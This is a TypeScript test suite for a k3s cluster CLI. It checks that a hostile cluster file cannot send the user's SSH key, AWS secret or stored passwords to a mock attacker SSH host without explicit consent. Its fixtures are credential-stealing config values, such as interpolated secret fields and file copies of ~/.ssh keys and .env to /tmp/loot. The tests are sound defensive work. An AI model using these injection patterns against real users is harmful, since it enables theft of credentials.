import { execFileSync, spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { cli, type CliResult } from '../adapters/cli/run';
import { startAttacker, type Attacker } from './support/attacker';

const ADDRESS = `127.${200 + (process.pid % 50)}.66.6`;
const PRIVATE_KEY = 'very private: the key of somebody else';

let home: string;
let repository: string;
let attacker: Attacker;

beforeEach(async () => {
  home = mkdtempSync(path.join(tmpdir(), 'k3s-ha-home-'));
  repository = mkdtempSync(path.join(tmpdir(), 'k3s-ha-repository-'));
  mkdirSync(path.join(home, '.ssh'), { mode: 0o700 });
  writeFileSync(path.join(home, '.ssh', 'id_other'), PRIVATE_KEY, { mode: 0o600 });
  mkdirSync(path.join(home, '.config', 'k3s-ha'), { recursive: true, mode: 0o700 });
  writeFileSync(path.join(home, '.config', 'k3s-ha', 'secrets.yaml'), 'prod-db-password: of-another-cluster\n', {
    mode: 0o600,
  });
  attacker = await startAttacker(ADDRESS);
});
afterEach(async () => {
  await attacker.stop();
  rmSync(home, { recursive: true, force: true });
  rmSync(repository, { recursive: true, force: true });
});

const PASSWORD = '${file:~/.ssh/id_other} ${env:AWS_SECRET_ACCESS_KEY} ${secret:prod-db-password}';

/** A cluster file whose only host is the attacker's, with known_hosts of its own. */
function write(more: { readonly ssh?: string; readonly config?: string; readonly rest?: string } = {}): void {
  writeFileSync(path.join(repository, 'kh'), `${attacker.knownHost}\n`);
  writeFileSync(
    path.join(repository, 'cluster.k3s.yaml'),
    `apiVersion: k3s-ha/v1
kind: Cluster
metadata: { name: innocent }
datastore: { type: sqlite }
ssh:
  user: root
  port: ${attacker.port}
  knownHostsFile: kh
  ${more.ssh ?? `password: "${PASSWORD}"`}
servers:
  config: {${more.config ?? ''}}
  nodes:
    - host: ${attacker.address}
${more.rest ?? ''}`,
  );
}

const env = (): Record<string, string> => ({
  HOME: home,
  XDG_STATE_HOME: path.join(home, 'state'),
  KUBECONFIG: path.join(home, 'none'),
  AWS_SECRET_ACCESS_KEY: 'an-aws-key',
  SSH_AUTH_SOCK: '',
});
const run = (...args: readonly string[]): Promise<CliResult> => cli(args, { cwd: repository, env: env() });
const allow = (...names: readonly string[]): string[] =>
  names.flatMap((name) => ['--allow-secrets', `${name}=${ADDRESS}`]);

describe('what a cluster file wants to have', () => {
  it.each([['plan'], ['apply', '--yes'], ['kubeconfig'], ['status']])(
    'C2: %s sends no key, variable or secret of the person to the host of a file, and lists what the file wants',
    async (...command) => {
      write();
      const { code, stdout, stderr } = await run(...command, 'cluster.k3s.yaml');
      expect(code).toBe(11);
      const told = stdout + stderr;
      for (const what of [
        'file ~/.ssh/id_other',
        'environment variable AWS_SECRET_ACCESS_KEY',
        'secret "prod-db-password"',
      ])
        expect(told).toContain(`${what} (ssh.password, line 9)`);
      expect(told).toContain(`To ${ADDRESS}:${attacker.port}:`);
      expect(told).toContain(`--allow-secrets 'file:~/.ssh/id_other=${ADDRESS}'`);
      expect(told).not.toMatch(/very private|an-aws-key|of-another-cluster/);
      expect(attacker.connections).toBe(0);
    },
  );

  it('C2: only what is allowed to exactly this host goes to it', async () => {
    write();
    const most = [
      ...allow('file:~/.ssh/id_other', 'env:AWS_SECRET_ACCESS_KEY', 'known-hosts:kh'),
      '--allow-secrets',
      'prod-db-password=10.0.0.1',
    ];
    expect((await run('plan', 'cluster.k3s.yaml', ...most)).code).toBe(11);
    expect(attacker.connections).toBe(0);
    await run('plan', 'cluster.k3s.yaml', ...most, ...allow('prod-db-password'));
    expect(attacker.loot).toContain(`password ${PRIVATE_KEY} an-aws-key of-another-cluster`);
  });

  it('C2: a host key that only the repository vouches for is asked about, too', async () => {
    write({ ssh: 'password: written-out' });
    const { code, stdout } = await run('plan', 'cluster.k3s.yaml');
    expect(code).toBe(11);
    expect(stdout).toContain('Host keys that only kh vouches for');
    expect(attacker.connections).toBe(0);
  });

  it.each([
    ['an SSH key', { ssh: 'identityFile: ~/.ssh/id_other' }, 'SSH key ~/.ssh/id_other (ssh.identityFile, line 9)'],
    [
      'a sudo password',
      { ssh: 'sudoPassword: ${secret:prod-db-password}' },
      'secret "prod-db-password" (ssh.sudoPassword, line 9)',
    ],
    [
      'a token',
      { rest: 'token: ${env:AWS_SECRET_ACCESS_KEY}\n' },
      'environment variable AWS_SECRET_ACCESS_KEY (token, line 14)',
    ],
    [
      'a label',
      { config: 'node-label: ["a=b", "x=${file:~/.ssh/id_other}"]' },
      'file ~/.ssh/id_other (config.node-label, line 11)',
    ],
    [
      'the environment of the installer',
      { rest: 'k3s: { install: { env: { HTTPS_PROXY: "http://x:${secret:prod-db-password}@10.0.0.1" } } }\n' },
      'secret "prod-db-password" (k3s.install.env.HTTPS_PROXY, line 14)',
    ],
    [
      'a file that is sent as it is',
      { rest: 'files: [{ from: ~/.ssh/id_other, to: /tmp/loot }]\n' },
      'file ~/.ssh/id_other (files, line 14)',
    ],
    ['a hidden file beside it', { rest: 'files: [{ from: ./.env, to: /tmp/loot }]\n' }, 'file ./.env (files, line 14)'],
    [
      'the login of a registry',
      { rest: 'registries: { configs: { r: { auth: { password: "${secret:prod-db-password}" } } } }\n' },
      'secret "prod-db-password" (registries, line 14)',
    ],
    ['manifests of another folder', { rest: 'manifests: [../*.yaml]\n' }, 'file ../*.yaml (manifests, line 14)'],
  ])('C2: %s is asked about as a password is', async (_what, file, expected) => {
    write({ ssh: 'password: written-out', ...file });
    const { code, stdout, stderr } = await run('plan', 'cluster.k3s.yaml', ...allow('known-hosts:kh'));
    expect(code).toBe(11);
    expect(stdout + stderr).toContain(expected);
    expect(attacker.connections).toBe(0);
  });

  it('C2: a key of the repository that is a link to another key proves nothing to anybody', async () => {
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', path.join(home, '.ssh', 'id_mine')]);
    symlinkSync(path.join(home, '.ssh', 'id_mine'), path.join(repository, 'deploy_key'));
    write({ ssh: 'identityFile: deploy_key' });
    const { stdout, stderr } = await run('plan', 'cluster.k3s.yaml', ...allow('known-hosts:kh', 'key:deploy_key'));
    expect(stdout + stderr).toContain('a link there must not choose another key');
    expect(attacker.loot).toEqual([]);
  });

  it.each(['identityFile', 'knownHostsFile'])(
    'C2: a path in %s takes no variable of the environment into messages',
    async (key) => {
      const named = '/tmp/${AWS_SECRET_ACCESS_KEY}/x';
      write({ ssh: key === 'identityFile' ? `identityFile: ${named}` : 'password: written-out' });
      const file = path.join(repository, 'cluster.k3s.yaml');
      if (key === 'knownHostsFile')
        writeFileSync(file, readFileSync(file, 'utf8').replace('knownHostsFile: kh', `knownHostsFile: ${named}`));
      const { stdout, stderr } = await run(
        'plan',
        'cluster.k3s.yaml',
        '--verbose',
        ...allow('known-hosts:kh', `key:${named}`),
      );
      expect(stdout + stderr).toMatch(/AWS_SECRET_ACCESS_KEY\} is a variable of a shell, and nothing replaces it here/);
      expect(stdout + stderr).not.toContain('an-aws-key');
    },
  );

  it('C2: on a terminal the same is asked; no sends nothing, yes is remembered for exactly that', async () => {
    write();
    expect(await onTerminal('no')).toMatch(/Agree, and remember it for exactly this/);
    expect(attacker.connections).toBe(0);
    await onTerminal('yes');
    expect(attacker.loot).toContain(`password ${PRIVATE_KEY} an-aws-key of-another-cluster`);
    const before = attacker.connections;
    await run('plan', 'cluster.k3s.yaml');
    expect(attacker.connections).toBeGreaterThan(before);
    expect(readdirSync(path.join(home, 'state', 'k3s-ha', 'agreements'))).toHaveLength(1);
  });

  /** Runs plan in a terminal of its own and answers the question. */
  async function onTerminal(answer: string): Promise<string> {
    const program = path.join(import.meta.dirname, '../../dist/cli.js');
    const child = spawn('script', ['-qec', `'${process.execPath}' '${program}' plan cluster.k3s.yaml`, '/dev/null'], {
      cwd: repository,
      env: { ...process.env, ...env() },
      stdio: ['pipe', 'pipe', 'ignore'],
    });
    let said = '';
    child.stdout.on('data', (chunk: Buffer) => {
      const asked = said.includes('(yes/no)?');
      said += chunk.toString();
      if (!asked && said.includes('(yes/no)?')) child.stdin.write(`${answer}\n`);
    });
    await new Promise((resolve) => child.once('close', resolve));
    return said;
  }
});
